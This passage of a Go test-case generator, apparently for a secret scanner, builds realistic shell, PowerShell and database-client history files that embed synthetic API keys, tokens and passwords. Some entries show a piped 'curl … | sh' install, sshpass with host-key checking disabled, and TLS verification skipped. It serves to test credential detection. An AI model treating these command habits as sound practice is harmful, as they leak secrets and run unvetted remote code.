package cases

import (
	"fmt"
	"strings"
)

// shellhistCases adds credentials as people type them into shells and
// interactive clients, in the history files and terminal recordings that
// keep them, exactly as those files look. Sources: bash (.bash_history plain
// and with HISTTIMEFORMAT "#epoch" lines, `history` and `history | grep`
// output with line numbers and timestamps, macOS .bash_sessions, busybox
// .ash_history, ksh .sh_history), zsh (.zsh_history extended ": epoch:0;cmd"
// lines, multi-line commands continued with backslashes, `fc -l`, `history
// -E`, macOS .zsh_sessions), fish (fish_history YAML with cmd/when/paths,
// `history search --show-time`), PowerShell (PSReadLine
// ConsoleHost_history.txt with backtick continuations, Get-History,
// Select-String over the history path, Start-Transcript files) and cmd.exe
// (doskey /history); database and service clients (.mysql_history with \040
// escapes, .psql_history, .sqlite_history, .rediscli_history, mongosh and
// the legacy mongo shell, pgcli and litecli prompt_toolkit histories,
// clickhouse-client, cqlsh, influx, DuckDB, usql, sqlplus under rlwrap);
// language REPLs (.node_repl_history, .python_history, IPython %history,
// irb, pry, PsySH, php -a, the Julia repl_history.jl, .Rhistory, ghci, Deno,
// ts-node, the sbt shell, gdb, lldb); pagers and editors (.lesshst, .viminfo
// command lines, searches and registers, Neovim :history, nano
// search_history, Emacs savehist); history tools (Atuin list/search/sqlite,
// McFly dump and sqlite, hishtory, zsh-histdb, nushell, xonsh); terminal
// recordings (asciinema v2 and v3 .cast files with output and stdin events,
// script(1) typescripts with control characters and --log-in, tmux
// capture-pane, GNU screen logs, kitty and iTerm2 scrollback saves);
// passwords pasted as commands by mistake and the shells' "command not
// found" answers; where typed command lines land besides (sudo's journal,
// auditd EXECVE records, ps output, lftp's rl_history, fish_variables,
// histories read out of containers); and chats where people paste their
// histories. Benign look-alikes: commit shas, container ids, image digests,
// file hashes, uuids, key fingerprints, ports, PIDs, epochs and
// placeholders. The case names start with "shellhist/".
func (g *G) shellhistCases() {
	g.shellhistBash()
	g.shellhistZsh()
	g.shellhistFish()
	g.shellhistPowerShell()
	g.shellhistDBClients()
	g.shellhistREPLs()
	g.shellhistEditors()
	g.shellhistTools()
	g.shellhistRecordings()
	g.shellhistPastes()
	g.shellhistNearby()
	g.shellhistChat()
	g.shellhistBenign()
}

// ---- helpers used only here ----

// shellhistCtl turns the visible markers of a template into the bytes they
// stand for: ␛ ESC, ␇ BEL, ␍ CR, ␈ BS, ˋ a backtick.
var shellhistCtl = strings.NewReplacer("␛", "\x1b", "␇", "\a", "␍", "\r", "␈", "\b", "ˋ", "`")

// shellhistAdd is add with the markers of tmpl and benign turned into bytes.
func (g *G) shellhistAdd(name, tmpl string, v V, benign ...string) {
	for i, b := range benign {
		benign[i] = shellhistCtl.Replace(b)
	}
	g.add(name, shellhistCtl.Replace(tmpl), v, benign...)
}

// shellhistMy escapes s the way libedit writes a history line
// (.mysql_history, .sqlite_history on macOS): a space becomes \040.
func shellhistMy(s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), " ", `\040`)
}

// shellhistCID is a short docker container id.
func (g *G) shellhistCID() string { return g.hex(12) }

// shellhistDigest is an image or file digest.
func (g *G) shellhistDigest() string { return "sha256:" + g.hex(64) }

// shellhistPID is a process id.
func (g *G) shellhistPID() string { return fmt.Sprint(1000 + g.r.IntN(98000)) }

// shellhistFP is an SSH key fingerprint as ssh-keygen -l prints it.
func (g *G) shellhistFP() string {
	return "SHA256:" + strings.TrimRight(g.b64(32), "=")
}

func (g *G) shellhistBash() {
	g.shellhistAdd("shellhist/bash-history-plain-export", `
cd ~/src/billing-api
git pull --rebase
export STRIPE_SECRET_KEY=«a»
go run ./cmd/server
curl -s localhost:8080/healthz
unset STRIPE_SECRET_KEY
git log --oneline -5
`, V{"a": g.skLive()}, "cd ~/src/billing-api", "curl -s localhost:8080/healthz")

	g.shellhistAdd("shellhist/bash-history-histtimeformat-epochs", `
#1712311802
sudo systemctl status postgresql
#1712311840
psql "postgresql://reporting:«a»@db-prod-2.internal:5432/analytics?sslmode=require"
#1712312019
ls -la /var/lib/postgresql/14/main
#1712312033
exit
`, V{"a": g.pwURL()}, "db-prod-2.internal:5432/analytics", "sudo systemctl status postgresql")

	g.shellhistAdd("shellhist/bash-history-mysql-dash-p", `
mysql -u root -p
mysql -uroot -p«a» -e 'show databases;'
mysqldump -uroot -p«a» --single-transaction shop > shop-$(date +%F).sql
ls -lh shop-*.sql
gzip shop-2024-04-05.sql
`, V{"a": g.pw()}, "--single-transaction shop", "gzip shop-2024-04-05.sql")

	g.shellhistAdd("shellhist/bash-history-aws-configure", `
aws --version
aws configure set aws_access_key_id «a» --profile ci-deployer
aws configure set aws_secret_access_key «b» --profile ci-deployer
aws sts get-caller-identity --profile ci-deployer
aws s3 ls s3://acme-artifacts-eu --profile ci-deployer
`, V{"a": g.awsID(), "b": g.awsSecret()}, "--profile ci-deployer", "s3://acme-artifacts-eu")

	g.shellhistAdd("shellhist/bash-history-git-clone-token-url", `
#1709823311
git clone https://oauth2:«a»@gitlab.com/acme/platform/infra-live.git
#1709823390
cd infra-live/
#1709823394
git remote -v
#1709823452
git remote set-url origin git@gitlab.com:acme/platform/infra-live.git
`, V{"a": g.glpat()}, "git@gitlab.com:acme/platform/infra-live.git")

	g.shellhistAdd("shellhist/bash-history-curl-bearer", `
curl -sS https://api.github.com/user -H "Authorization: Bearer «a»" | jq .login
curl -sS -H "Authorization: Bearer «a»" "https://api.github.com/repos/acme/web/actions/runs?per_page=5" | jq '.workflow_runs[].status'
vim .github/workflows/deploy.yml
`, V{"a": g.ghp()}, "https://api.github.com/repos/acme/web/actions/runs?per_page=5")

	g.shellhistAdd("shellhist/bash-history-docker-login-p", `
docker ps -a
docker login -u acmebuild -p «a»
docker build -t acmebuild/worker:1.8.2 .
docker push acmebuild/worker:1.8.2
docker logout
`, V{"a": g.dockerPAT()}, "acmebuild/worker:1.8.2")

	g.shellhistAdd("shellhist/bash-history-sshpass", `
ssh-copy-id pi@192.168.1.41
sshpass -p '«a»' ssh -o StrictHostKeyChecking=no pi@192.168.1.41 'uptime'
sshpass -p '«a»' scp backup.tar.gz pi@192.168.1.41:/mnt/usb/
ping -c3 192.168.1.41
`, V{"a": g.pw()}, "pi@192.168.1.41", "StrictHostKeyChecking=no")

	g.shellhistAdd("shellhist/bash-history-sudo-echo-S", `
echo '«a»' | sudo -S apt-get update
echo '«a»' | sudo -S apt-get -y upgrade
sudo reboot
`, V{"a": g.pw()}, "sudo -S apt-get update")

	g.shellhistAdd("shellhist/bash-history-htpasswd-b", `
sudo apt install apache2-utils
sudo htpasswd -c -b /etc/nginx/.htpasswd grafana «a»
sudo nginx -t && sudo systemctl reload nginx
curl -u grafana:«a» -I https://metrics.fernhill.io/
`, V{"a": g.pwStrong()}, "/etc/nginx/.htpasswd", "https://metrics.fernhill.io/")

	g.shellhistAdd("shellhist/history-grep-export-numbered", `
$ history | grep -i export
  118  export PATH=$HOME/.local/bin:$PATH
  402  export OPENAI_API_KEY=«a»
  403  export OPENAI_ORG=org-«_o»
  977  export ANTHROPIC_API_KEY="«b»"
 1021  history | grep -i export
`, V{"a": g.openai(), "_o": g.an(24), "b": g.anthropic()}, "export PATH=$HOME/.local/bin:$PATH")

	g.shellhistAdd("shellhist/history-timestamps-output", `
$ HISTTIMEFORMAT='%F %T ' history 12
  488  2024-04-02 09:14:51 kubectl config use-context prod-eu
  489  2024-04-02 09:15:07 kubectl -n payments get pods
  490  2024-04-02 09:15:40 kubectl -n payments create secret generic adyen --from-literal=api-key=«a» --from-literal=hmac=«b»
  491  2024-04-02 09:16:02 kubectl -n payments rollout restart deploy/checkout
  492  2024-04-02 09:16:30 kubectl -n payments get pods -w
  493  2024-04-02 09:19:12 HISTTIMEFORMAT='%F %T ' history 12
`, V{"a": "AQE" + g.b64u(90), "b": g.hex(64)}, "kubectl config use-context prod-eu", "deploy/checkout")

	g.shellhistAdd("shellhist/history-grep-vault-login", `
$ history | grep vault
  231  vault status
  232  vault login «a»
  240  VAULT_TOKEN=«a» vault kv get -field=password secret/db/orders
  255  vault token lookup
  256  history | grep vault
`, V{"a": g.vaultTok()}, "secret/db/orders")

	g.shellhistAdd("shellhist/bash-sessions-macos", `
$ cat ~/.bash_sessions/«_u».history
brew update
brew install redis
redis-cli -h cache.prod.internal -a «a» --no-auth-warning info memory
exit
`, V{"_u": strings.ToUpper(g.uuid()), "a": g.an(32)}, "cache.prod.internal", "--no-auth-warning info memory")

	g.shellhistAdd("shellhist/ash-history-busybox-router", `
# cat /root/.ash_history
uci show wireless
uci set wireless.default_radio0.key='«a»'
uci commit wireless
wifi reload
logread | tail -20
opkg update
`, V{"a": g.pw()}, "wireless.default_radio0.key", "uci commit wireless")

	g.shellhistAdd("shellhist/bash-history-root-mysql-create-user", `
#1698742001
mysql
#1698742087
mysql -e "CREATE USER 'wp'@'localhost' IDENTIFIED BY '«a»'; GRANT ALL ON wordpress.* TO 'wp'@'localhost'; FLUSH PRIVILEGES;"
#1698742133
sed -i "s/password_here/«a»/" /var/www/html/wp-config.php
#1698742141
chown -R www-data: /var/www/html
`, V{"a": g.pwStrong()}, "/var/www/html/wp-config.php", "GRANT ALL ON wordpress.*")

	g.shellhistAdd("shellhist/bash-history-gh-auth-token-heredoc", `
gh auth status
gh auth login --with-token <<< «a»
gh repo clone acme/release-tools
gh release list -R acme/release-tools
`, V{"a": g.ghFine()}, "acme/release-tools")

	g.shellhistAdd("shellhist/bash-history-npm-config-token", `
npm whoami
npm config set //registry.npmjs.org/:_authToken «a»
npm publish --access public
npm config delete //registry.npmjs.org/:_authToken
`, V{"a": g.npmTok()}, "npm publish --access public")

	g.shellhistAdd("shellhist/ksh-sh-history-aix", `
$ strings ~/.sh_history | tail -8
cd /u01/app/oracle
. oraenv
sqlplus system/«a»@ORCLPDB1
lsnrctl status
tail -100 /u01/app/oracle/diag/rdbms/orcl/ORCL/trace/alert_ORCL.log
`, V{"a": g.pw()}, "lsnrctl status", "/u01/app/oracle")

	g.shellhistAdd("shellhist/bash-history-openssl-pass", `
openssl genrsa -aes256 -passout pass:«a» -out ca.key 4096
openssl req -x509 -new -key ca.key -passin pass:«a» -days 3650 -subj "/CN=Lab Root CA" -out ca.crt
openssl x509 -in ca.crt -noout -fingerprint -sha256
`, V{"a": g.pwStrong()}, `-subj "/CN=Lab Root CA"`)

	g.shellhistAdd("shellhist/bash-history-wget-basic", `
wget --user=deploy --password='«a»' https://nexus.corp.example/repository/releases/com/acme/core/2.4.1/core-2.4.1.jar
sha1sum core-2.4.1.jar
`, V{"a": g.pwStrong()}, "core-2.4.1.jar", "--user=deploy")

	g.shellhistAdd("shellhist/bash-history-pgpassword-env", `
#1714032011
PGPASSWORD=«a» pg_dump -h 10.20.4.17 -U app_owner -Fc appdb > appdb.dump
#1714032580
ls -lh appdb.dump
#1714032611
PGPASSWORD=«a» pg_restore -h localhost -U postgres -d appdb_copy appdb.dump
`, V{"a": g.pwURL()}, "pg_restore -h localhost", "app_owner")
}

func (g *G) shellhistZsh() {
	g.shellhistAdd("shellhist/zsh-extended-export", `
: 1712345601:0;cd ~/work/ml-pipeline
: 1712345612:0;source .venv/bin/activate
: 1712345650:0;export HF_TOKEN=«a»
: 1712345661:42;huggingface-cli download meta-llama/Llama-3.1-8B-Instruct --local-dir models/llama
: 1712345790:0;nvidia-smi
`, V{"a": g.hfTok()}, "meta-llama/Llama-3.1-8B-Instruct", "cd ~/work/ml-pipeline")

	g.shellhistAdd("shellhist/zsh-extended-multiline-backslash", `
: 1712400010:0;git status
: 1712400131:3;curl -X POST https://api.sendgrid.com/v3/mail/send \\
  -H "Authorization: Bearer «a»" \\
  -H 'Content-Type: application/json' \\
  -d @test-mail.json
: 1712400188:0;cat test-mail.json | jq .
`, V{"a": g.sendgrid()}, "https://api.sendgrid.com/v3/mail/send", "test-mail.json")

	g.shellhistAdd("shellhist/zsh-extended-docker-run-env", `
: 1711022214:0;docker run -d --name pg -p 5432:5432 -e POSTGRES_PASSWORD=«a» postgres:16
: 1711022230:0;docker logs -f pg
: 1711022301:0;docker exec -it pg psql -U postgres
`, V{"a": g.pw()}, "postgres:16", "-p 5432:5432")

	g.shellhistAdd("shellhist/zsh-history-plain-no-extended", `
ls
cd projects/shopfront
yarn
echo "NEXT_PUBLIC_API=https://api.shopfront.dev" >> .env.local
echo "SHOPIFY_ADMIN_TOKEN=«a»" >> .env.local
yarn dev
`, V{"a": g.shpat()}, "NEXT_PUBLIC_API=https://api.shopfront.dev")

	g.shellhistAdd("shellhist/zsh-fc-l-output", `
❯ fc -l -10
 9131  terraform init
 9132  terraform plan -var 'do_token=«a»'
 9133  terraform apply -var 'do_token=«a»' -auto-approve
 9134  doctl compute droplet list
 9135  ssh root@«_ip»
 9136  fc -l -10
`, V{"a": g.doToken(), "_ip": "164.92.148.23"}, "doctl compute droplet list")

	g.shellhistAdd("shellhist/zsh-history-E-dates", `
% history -E -5
 2201  5.4.2024 18:02  export CLOUDFLARE_API_TOKEN=«a»
 2202  5.4.2024 18:02  wrangler whoami
 2203  5.4.2024 18:03  wrangler deploy
 2204  5.4.2024 18:05  wrangler tail shortlinks
 2205  5.4.2024 18:09  history -E -5
`, V{"a": g.cfToken()}, "wrangler tail shortlinks")

	g.shellhistAdd("shellhist/zsh-sessions-macos", `
$ tail -4 ~/.zsh_sessions/«_u».history
: 1710001200:0;brew services start mongodb-community@7.0
: 1710001260:0;mongosh "mongodb+srv://admin:«a»@cluster0.«_c».mongodb.net/?retryWrites=true&w=majority"
: 1710001350:0;brew services stop mongodb-community@7.0
`, V{"_u": strings.ToUpper(g.uuid()), "a": g.pwURL(), "_c": g.s(alLowNum, 5)}, "mongodb-community@7.0")

	g.shellhistAdd("shellhist/zsh-extended-gcloud-key-heredoc", `
: 1713900001:0;cat > /tmp/sa.json <<'EOF'\
{\
  "type": "service_account",\
  "project_id": "acme-data-prod",\
  "private_key_id": "«_k»",\
  "private_key": "«a»",\
  "client_email": "loader@acme-data-prod.iam.gserviceaccount.com"\
}\
EOF
: 1713900019:1;gcloud auth activate-service-account --key-file=/tmp/sa.json
: 1713900044:0;rm /tmp/sa.json
`, V{"_k": g.hex(40), "a": jsonEsc(g.pkcs8RSAPEM().block())}, "loader@acme-data-prod.iam.gserviceaccount.com")

	g.shellhistAdd("shellhist/zsh-extended-psql-url", `
: 1715500000:0;pgcli postgres://grafana:«a»@pg-ro.tools.svc:5432/grafana
: 1715500102:0;kubectl -n tools port-forward svc/pg-ro 5432:5432
: 1715500190:0;pgcli postgres://grafana:«a»@localhost:5432/grafana
`, V{"a": g.pwURL()}, "kubectl -n tools port-forward svc/pg-ro 5432:5432")

	g.shellhistAdd("shellhist/zsh-extended-ssh-keygen-passphrase", `
: 1702000100:0;ssh-keygen -t ed25519 -C "deploy@ci" -N '«a»' -f ~/.ssh/deploy_ci
: 1702000111:0;cat ~/.ssh/deploy_ci.pub | pbcopy
: 1702000190:0;ssh-add ~/.ssh/deploy_ci
`, V{"a": g.pwStrong()}, `-C "deploy@ci"`, "~/.ssh/deploy_ci.pub")

	g.shellhistAdd("shellhist/zsh-extended-slack-webhook", `
: 1716100055:0;curl -X POST -H 'Content-type: application/json' --data '{"text":"deploy done"}' https://hooks.slack.com/services/«_t»/«_b»/«a»
: 1716100060:0;echo $?
`, V{"_t": g.slackT(), "_b": g.slackB(), "a": g.an(24)}, `{"text":"deploy done"}`)

	g.shellhistAdd("shellhist/zsh-ohmyzsh-history-grep", `
➜  ~ history | grep -i twilio
 5521  export TWILIO_ACCOUNT_SID=«_sid»
 5522  export TWILIO_AUTH_TOKEN=«a»
 5530  curl -X POST "https://api.twilio.com/2010-04-01/Accounts/$TWILIO_ACCOUNT_SID/Messages.json" --data-urlencode "Body=test" -u $TWILIO_ACCOUNT_SID:$TWILIO_AUTH_TOKEN
 5611  history | grep -i twilio
`, V{"_sid": g.twilioSID(), "a": g.hex(32)}, "$TWILIO_ACCOUNT_SID:$TWILIO_AUTH_TOKEN")

	g.shellhistAdd("shellhist/zsh-extended-kubectl-token", `
: 1717000301:0;kubectl --server=https://10.0.12.5:6443 --insecure-skip-tls-verify --token=«a» get nodes
: 1717000344:0;kubectl get nodes -o wide
`, V{"a": g.k8sSAToken()}, "https://10.0.12.5:6443")

	g.shellhistAdd("shellhist/zsh-extended-pip-index-url", `
: 1718200000:0;python -m venv .venv && source .venv/bin/activate
: 1718200040:7;pip install --index-url https://__token__:«a»@gitlab.example.com/api/v4/projects/412/packages/pypi/simple acme-sdk==3.2.0
: 1718200099:0;python -c 'import acme_sdk; print(acme_sdk.__version__)'
`, V{"a": g.glpat()}, "acme-sdk==3.2.0", "gitlab.example.com/api/v4/projects/412")

	g.shellhistAdd("shellhist/zsh-extended-mistyped-password", `
: 1719300000:0;ssh admin@nas.home.lan
: 1719300014:0;«a»
: 1719300020:0;ssh admin@nas.home.lan
: 1719300090:0;sudo zpool status
`, V{"a": g.pw()}, "admin@nas.home.lan", "sudo zpool status")

	g.shellhistAdd("shellhist/zsh-extended-azure-sp-login", `
: 1720100100:0;az login --service-principal -u «_app» -p «a» --tenant «_ten»
: 1720100133:0;az account show -o table
: 1720100160:0;az aks get-credentials -g rg-platform-weu -n aks-platform-weu
`, V{"_app": g.uuid(), "a": g.azSecret(), "_ten": g.uuid()}, "aks-platform-weu")
}

func (g *G) shellhistFish() {
	g.shellhistAdd("shellhist/fish-history-yaml-set-x", `
- cmd: cd ~/code/notifier
  when: 1712550001
- cmd: set -Ux TELEGRAM_BOT_TOKEN «a»
  when: 1712550044
- cmd: go run . --chat-id «_c»
  when: 1712550102
  paths:
    - .
- cmd: git status
  when: 1712550190
`, V{"a": g.telegram(), "_c": "-100" + g.digits(10)}, "cd ~/code/notifier")

	g.shellhistAdd("shellhist/fish-history-yaml-paths", `
- cmd: vim ~/.config/rclone/rclone.conf
  when: 1709021770
  paths:
    - ~/.config/rclone/rclone.conf
- cmd: rclone config create b2 b2 account «_acc» key «a»
  when: 1709021854
- cmd: rclone ls b2:photos-backup-2024
  when: 1709021901
`, V{"_acc": "005" + g.hex(22), "a": "K005" + g.b64u(27)}, "b2:photos-backup-2024", "~/.config/rclone/rclone.conf")

	g.shellhistAdd("shellhist/fish-history-yaml-escaped-newline", `
- cmd: curl https://api.openai.com/v1/chat/completions \\\n  -H "Content-Type: application/json" \\\n  -H "Authorization: Bearer «a»" \\\n  -d '{"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "ping"}]}'
  when: 1716030001
- cmd: echo $status
  when: 1716030005
`, V{"a": g.openaiSvc()}, `"model": "gpt-4o-mini"`)

	g.shellhistAdd("shellhist/fish-history-search-show-time", `
~> history search --show-time --contains psql
# Tue 09 Apr 2024 03:12:44 PM CEST
psql "host=pg.staging.lan user=etl password=«a» dbname=warehouse"
# Tue 09 Apr 2024 03:10:02 PM CEST
psql -h pg.staging.lan -U etl warehouse
`, V{"a": g.pw()}, "dbname=warehouse", "pg.staging.lan")

	g.shellhistAdd("shellhist/fish-history-env-prefix", `
- cmd: env DATABASE_URL=mysql://app:«a»@127.0.0.1:3306/app_dev bin/rails db:migrate
  when: 1711800033
  paths:
    - bin/rails
- cmd: bin/rails s
  when: 1711800091
  paths:
    - bin/rails
`, V{"a": g.pwURL()}, "bin/rails db:migrate")

	g.shellhistAdd("shellhist/fish-history-abbr-and-token", `
$ grep -A1 -- '- cmd: fly' ~/.local/share/fish/fish_history
- cmd: fly auth token
  when: 1718400012
- cmd: fly secrets set -a orbit-api SENTRY_AUTH_TOKEN=«a» SESSION_SECRET=«b»
  when: 1718400120
- cmd: fly deploy -a orbit-api
  when: 1718400180
`, V{"a": g.sentryUser(), "b": g.hex(64)}, "fly deploy -a orbit-api")

	g.shellhistAdd("shellhist/fish-history-merge-output", `
~> history --show-time='%F %T  ' | head -4
2024-05-02 10:44:19  tailscale up --authkey=«a» --advertise-exit-node
2024-05-02 10:43:58  sudo systemctl enable --now tailscaled
2024-05-02 10:43:40  curl -fsSL https://tailscale.com/install.sh | sh
2024-05-02 10:43:12  uname -a
`, V{"a": g.tailscale()}, "--advertise-exit-node", "curl -fsSL https://tailscale.com/install.sh | sh")

	g.shellhistAdd("shellhist/fish-history-backslash-escaped-password", `
- cmd: mosquitto_pub -h mqtt.iot.lan -u sensor-hub -P '«a»' -t 'home/garage/door' -m 'open'
  when: 1710662201
- cmd: mosquitto_sub -h mqtt.iot.lan -u sensor-hub -P '«a»' -t 'home/#' -v
  when: 1710662290
`, V{"a": g.pwStrong()}, "mqtt.iot.lan", "home/garage/door")
}

func (g *G) shellhistPowerShell() {
	g.shellhistAdd("shellhist/psreadline-consolehost-history", `
cd C:\src\Contoso.Api
dotnet build
$env:ConnectionStrings__Default = "Server=tcp:contoso-sql.database.windows.net,1433;Initial Catalog=contoso;User ID=contosoadmin;Password=«a»;Encrypt=True;"
dotnet ef database update
Remove-Item Env:\ConnectionStrings__Default
git status
`, V{"a": g.pwStrong()}, "contoso-sql.database.windows.net,1433", "dotnet ef database update")

	g.shellhistAdd("shellhist/psreadline-backtick-continuation", `
Connect-AzAccount
$sp = Get-AzADServicePrincipal -DisplayName "sp-deploy-prod"
$cred = New-Object System.Management.Automation.PSCredential("«_app»", (ConvertTo-SecureString "«a»" -AsPlainText -Force))
Connect-AzAccount -ServicePrincipal ˋ
  -Credential $cred ˋ
  -Tenant «_ten»
Get-AzResourceGroup | ft ResourceGroupName,Location
`, V{"_app": g.uuid(), "a": g.azSecret(), "_ten": g.uuid()}, `"sp-deploy-prod"`, "ResourceGroupName,Location")

	g.shellhistAdd("shellhist/psreadline-invoke-restmethod", `
$headers = @{ "Authorization" = "Basic " + [Convert]::ToBase64String([Text.Encoding]::ASCII.GetBytes(":«a»")) }
Invoke-RestMethod -Uri "https://dev.azure.com/contoso/_apis/projects?api-version=7.1" -Headers $headers
Invoke-RestMethod -Uri "https://dev.azure.com/contoso/Platform/_apis/build/builds?api-version=7.1&$top=5" -Headers $headers | select -expand value | ft id,buildNumber,result
`, V{"a": g.azDevops()}, "https://dev.azure.com/contoso/_apis/projects?api-version=7.1")

	g.shellhistAdd("shellhist/psreadline-history-path-select-string", `
PS C:\Users\jdoe> Get-Content (Get-PSReadLineOption).HistorySavePath | Select-String -Pattern "token"

$env:GITHUB_TOKEN="«a»"
gh api /user --jq .login
$env:GITHUB_TOKEN=""
git config --global credential.helper manager
gh auth token

PS C:\Users\jdoe>
`, V{"a": g.gho()}, "(Get-PSReadLineOption).HistorySavePath", "credential.helper manager")

	g.shellhistAdd("shellhist/powershell-get-history-table", `
PS C:\> Get-History

  Id CommandLine
  -- -----------
   1 Import-Module SqlServer
   2 Invoke-Sqlcmd -ServerInstance "SQL01\PROD" -Database HR -Username sa -Password "«a»" -Query "SELECT TOP 5 * FROM dbo.Employees"
   3 Get-Service MSSQLSERVER
   4 Restart-Service MSSQLSERVER -Force
`, V{"a": g.pw()}, `"SQL01\PROD"`, "Restart-Service MSSQLSERVER -Force")

	g.shellhistAdd("shellhist/powershell-securestring-plain", `
$pw = ConvertTo-SecureString '«a»' -AsPlainText -Force
$cred = New-Object PSCredential ('CORP\svc_backup', $pw)
New-PSDrive -Name B -PSProvider FileSystem -Root \\fs02\backups$ -Credential $cred
robocopy D:\exports B:\exports /MIR /R:1 /W:1
`, V{"a": g.pw()}, `CORP\svc_backup`, `\\fs02\backups$`)

	g.shellhistAdd("shellhist/powershell-set-secret-env-user", `
[Environment]::SetEnvironmentVariable("AZURE_OPENAI_API_KEY", "«a»", "User")
[Environment]::SetEnvironmentVariable("AZURE_OPENAI_ENDPOINT", "https://contoso-aoai-swe.openai.azure.com/", "User")
refreshenv
python .\scripts\smoke_test.py
`, V{"a": g.hex(32)}, "https://contoso-aoai-swe.openai.azure.com/", `.\scripts\smoke_test.py`)

	g.shellhistAdd("shellhist/cmd-doskey-history", `
C:\deploy>doskey /history
cd C:\deploy
set NUGET_API_KEY=«a»
nuget push Contoso.Core.3.1.0.nupkg -Source https://api.nuget.org/v3/index.json -ApiKey %NUGET_API_KEY%
set NUGET_API_KEY=
doskey /history

C:\deploy>
`, V{"a": "oy2" + g.s(alLowNum, 43)}, "Contoso.Core.3.1.0.nupkg", "https://api.nuget.org/v3/index.json")

	g.shellhistAdd("shellhist/cmd-doskey-net-use", `
C:\Users\admin>doskey /history
ipconfig /all
net use Z: \\files.corp.local\share /user:CORP\jsmith «a» /persistent:yes
dir Z:\
runas /user:CORP\jsmith-adm cmd
doskey /history
`, V{"a": g.pw()}, `\\files.corp.local\share`, `CORP\jsmith-adm`)

	g.shellhistAdd("shellhist/cmd-doskey-mysql", `
C:\xampp\mysql\bin>doskey /history
mysql.exe -u root
mysql.exe -u root -p«a» shop < C:\Users\dev\Downloads\shop_2024.sql
mysqladmin -u root -p«a» status
`, V{"a": g.pw()}, `C:\Users\dev\Downloads\shop_2024.sql`)

	g.shellhistAdd("shellhist/powershell-transcript", `
**********************
Windows PowerShell transcript start
Start time: 20240411093015
Username: CONTOSO\jdoe
RunAs User: CONTOSO\jdoe
Configuration Name: 
Machine: WS-0412 (Microsoft Windows NT 10.0.22631.0)
Host Application: C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe
Process ID: «_pid»
PSVersion: 5.1.22621.2506
**********************
Transcript started, output file is C:\Users\jdoe\Documents\PowerShell_transcript.WS-0412.x1Yz9Qv2.20240411093015.txt
PS C:\Users\jdoe> $token = "«a»"
PS C:\Users\jdoe> Invoke-RestMethod https://api.notion.com/v1/users/me -Headers @{Authorization="Bearer $token"; "Notion-Version"="2022-06-28"}

object     : user
id         : «_uid»
name       : Release Bot
type       : bot

PS C:\Users\jdoe> Stop-Transcript
**********************
Windows PowerShell transcript end
End time: 20240411093122
**********************
`, V{"_pid": g.shellhistPID(), "a": g.notion(), "_uid": g.uuid()}, `CONTOSO\jdoe`, "WS-0412")

	g.shellhistAdd("shellhist/psreadline-winget-choco-key", `
winget install Chocolatey.Chocolatey
choco apikey --key «a» --source https://push.chocolatey.org/
choco pack .\contoso-cli.nuspec
choco push contoso-cli.1.4.0.nupkg --source https://push.chocolatey.org/
`, V{"a": g.uuid()}, "contoso-cli.1.4.0.nupkg")

	g.shellhistAdd("shellhist/psreadline-wsl-history-mixed", `
wsl -d Ubuntu-22.04
wsl -d Ubuntu-22.04 -- bash -lc "export GITLAB_TOKEN=«a»; ./scripts/fetch-artifacts.sh"
wsl --shutdown
`, V{"a": g.glpat()}, "./scripts/fetch-artifacts.sh", "Ubuntu-22.04")
}

// shellhistLibedit builds a libedit history file: the _HiStOrY_V2_ line,
// then each line with its spaces written \040.
func shellhistLibedit(lines ...string) string {
	var b strings.Builder
	b.WriteString("_HiStOrY_V2_\n")
	for _, l := range lines {
		b.WriteString(shellhistMy(l))
		b.WriteString("\n")
	}
	return b.String()
}

func (g *G) shellhistDBClients() {
	g.shellhistAdd("shellhist/mysql-history-libedit-update-settings", "$ cat ~/.mysql_history\n"+shellhistLibedit(
		"show databases;",
		"use crm;",
		"select name, value from settings where name like 'smtp%';",
		"update settings set value='«a»' where name='smtp_pass';",
		"update settings set value='smtp.mailgun.org' where name='smtp_host';",
		"quit",
	), V{"a": g.pw()}, `update\040settings\040set\040value='smtp.mailgun.org'`)

	g.shellhistAdd("shellhist/mysql-history-libedit-create-user-55", shellhistLibedit(
		"select user,host from mysql.user;",
		"CREATE USER 'replica'@'10.0.%' IDENTIFIED BY '«a»';",
		"GRANT REPLICATION SLAVE ON *.* TO 'replica'@'10.0.%';",
		"FLUSH PRIVILEGES;",
		"SHOW MASTER STATUS;",
	), V{"a": g.pwStrong()}, `GRANT\040REPLICATION\040SLAVE`)

	g.shellhistAdd("shellhist/mysql-history-libedit-insert-api-key", shellhistLibedit(
		"use saas_prod;",
		"describe integrations;",
		"insert into integrations (tenant_id, provider, api_key, created_at) values (4127, 'hubspot', '«a»', now());",
		"select id, tenant_id, provider from integrations where tenant_id=4127;",
	), V{"a": g.hubspot()}, `describe\040integrations;`)

	g.shellhistAdd("shellhist/mariadb-history-readline", `
$ tail -n 6 ~/.mysql_history
SET PASSWORD FOR 'nextcloud'@'localhost' = PASSWORD('«a»');
FLUSH PRIVILEGES;
SELECT user, host, plugin FROM mysql.user;
exit
`, V{"a": g.pw()}, "SELECT user, host, plugin FROM mysql.user;")

	g.shellhistAdd("shellhist/psql-history-alter-role", `
\l
\c app_production
\du
ALTER ROLE app_rw WITH LOGIN PASSWORD '«a»';
GRANT CONNECT ON DATABASE app_production TO app_rw;
\q
`, V{"a": g.pwStrong()}, "GRANT CONNECT ON DATABASE app_production TO app_rw;")

	g.shellhistAdd("shellhist/psql-history-multiline-insert", `
select id, email from users where email like '%@fernhill.io';
insert into oauth_clients (client_id, client_secret, redirect_uri, name)
values ('fernhill-mobile', '«a»', 'io.fernhill.app:/oauth2redirect', 'Fernhill iOS');
select client_id, name from oauth_clients;
`, V{"a": g.b64u(43)}, "io.fernhill.app:/oauth2redirect", "fernhill-mobile")

	g.shellhistAdd("shellhist/psql-history-libedit-macos", shellhistLibedit(
		`\dt`,
		"CREATE USER metabase WITH PASSWORD '«a»';",
		"GRANT pg_read_all_data TO metabase;",
		`\q`,
	), V{"a": g.pw()}, `GRANT\040pg_read_all_data\040TO\040metabase;`)

	g.shellhistAdd("shellhist/psql-history-dblink-connstr", `
CREATE EXTENSION IF NOT EXISTS dblink;
SELECT * FROM dblink('host=10.8.0.14 dbname=legacy user=legacy_ro password=«a»', 'select id, total from orders limit 10') AS t(id int, total numeric);
\timing
`, V{"a": g.pwURL()}, "host=10.8.0.14 dbname=legacy user=legacy_ro")

	g.shellhistAdd("shellhist/psql-history-fdw-user-mapping", `
CREATE SERVER billing_src FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'billing-db.internal', port '5432', dbname 'billing');
